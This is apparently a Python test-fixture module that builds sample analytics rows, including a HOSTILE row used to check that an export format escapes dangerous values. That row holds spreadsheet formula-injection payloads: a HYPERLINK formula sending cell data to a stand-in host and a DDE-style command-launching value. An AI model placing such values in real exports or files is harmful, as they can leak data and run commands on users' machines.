"""Rows with everything that a format must get right."""

from dataclasses import replace

from analytics.generate import Plan, generate, threats
from analytics.types import DecisionRow

ROWS = next(generate(Plan(records=500, seed=7, days=1)))
PLAIN = next(row for row in ROWS if not row.threats and row.cost_nanousd)
RISKY = replace(ROWS[0], threats=threats.rows((15, 0), 90, threats.digest(1)), score=15.8, level="critical")
HOSTILE = replace(
    RISKY,
    user='=HYPERLINK("http://evil.example?"&A1,"click")',
    model="+1+cmd|' /C calc'!A0",
    endpoint='-2+3, "quoted"\r\nnext',
    session="@SUM(1)",
    team="\tx",
    finish_reason="'stop",
    door="＝1",
    prompt_tokens=None,
    cost_nanousd=None,
    detail={"content": {"prompt": "ligne\nné ✓", "response": ""}},
)


def several(count: int) -> list[DecisionRow]:
    """Return so many rows."""
    return (ROWS * (count // len(ROWS) + 1))[:count]
